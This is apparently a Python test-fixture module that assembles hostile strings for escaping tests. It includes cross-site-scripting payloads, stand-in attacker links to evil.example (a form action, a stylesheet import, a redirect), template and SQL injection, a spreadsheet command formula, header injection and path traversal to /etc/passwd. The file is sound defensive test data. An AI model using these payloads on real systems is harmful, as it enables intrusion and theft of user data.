"""Three hundred texts that would do harm where somebody forgot to escape, strip or bound them (T12)."""

from __future__ import annotations

REACHED = "window.reached=1"

_RUNS = [
    f"<script>{REACHED}</script>",
    f"<ScRiPt >{REACHED}</sCrIpT >",
    f"<img src=x onerror={REACHED}>",
    f"<svg/onload={REACHED}>",
    f"<svg><animate onbegin={REACHED} attributeName=x dur=1s>",
    f"<body onload={REACHED}>",
    f"<iframe srcdoc='<script>{REACHED}</script>'>",
    f"<iframe src=javascript:{REACHED}>",
    f"<a href=javascript:{REACHED}>look</a>",
    f"<details open ontoggle={REACHED}>",
    f"<input autofocus onfocus={REACHED}>",
    f"<video><source onerror={REACHED}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={REACHED}>",
    f"<noscript><p title='</noscript><img src=x onerror={REACHED}>'>",
    f"<template><img src=x onerror={REACHED}></template>",
    f"<object data=javascript:{REACHED}>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>go",
    "<img src=//evil.example/pixel.gif>",
]

_OUT_OF = [
    "{}", '">{}', "'>{}", "</title>{}", "</script>{}", "</textarea>{}", "</template>{}", "</strong></li></ul>{}",
    "-->{}", "]]>{}", "\\\"{}", "{}<!--",
]  # fmt: skip
"""Where a text may stand, and how it would leave that place."""

_OTHERS = [
    f'" onmouseover="{REACHED}', f"' onmouseover='{REACHED}", f"x onmouseover={REACHED}", f"` onmouseover={REACHED}",
    f"'; {REACHED}; '", f'"; {REACHED}; "', f"`${{{REACHED}}}`", f"</script><script>{REACHED}//", "'-alert(1)-'",
    f"javascript:{REACHED}", f"JaVaScRiPt:{REACHED}", f"java\tscript:{REACHED}", f"vbscript:{REACHED}",
    f"data:text/html,<script>{REACHED}</script>", "data:text/html;base64,PHNjcmlwdD4=", "{{ 7|add:7 }}",
    "{% debug %}", "{% include 'base.html' %}", "{{ settings.SECRET_KEY }}", "{# x #}",
    "{{constructor.constructor('window.reached=1')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}",
    "%(password)s", "&lt;b&gt;", "&#60;script&#62;", "&quot;&gt;", "&amp;amp;", "&NotAnEntity;", "&#x0;",
    "%3Cscript%3E", "\\u003cscript\\u003e", "\uff1cscript\uff1e", "\u02bcx\u02ba", "\u202egnp.exe", "\u2066x\u2069",
    "a\u200bb", "\ufeffx", "a\u00adb", "\u2028x\u2029", "e\u0301" * 40, "Z" + "\u0335" * 200,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U000e0041x", "\ufffe", "\U0010ffff", "a\x00b", "\x07bell",
    "\x1b[31mred", "a\x7fb", "a\x85b", "\ud800", "x\r\nBcc: eve@example.org", "x\nContent-Type: text/html\n\n<b>",
    "x\r\n\r\n<script>", "=?utf-8?q?=3Cb=3E?=", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1",
    "'; DROP TABLE sharing_invitation; --", "' OR 1=1 --", '{"x": 1}', "[1,2", "null", "undefined", "NaN", "true",
    "../../etc/passwd", "..%2f..%2f", "C:\\Windows", "\\\\host\\share", "http://evil.example/x", "www.evil.example",
    "mailto:x@evil.example", "[x](http://evil.example)", "x@evil.example", "x" * 5000, "<" * 500, "<b>" * 200,
    "[" * 1000, "\U0001f600" * 300,
]  # fmt: skip

HOSTILE = [*(place.format(text) for text in _RUNS for place in _OUT_OF), *_OTHERS]


def packed(texts: list[str], length: int = 200) -> list[str]:
    """The texts joined to fewer ones of at most so many letters, where each of them fits; in their order."""
    packs: list[str] = []
    for text in texts:
        if packs and len(packs[-1]) + 1 + len(text) <= length:
            packs[-1] += " " + text
        else:
            packs.append(text)
    return packs
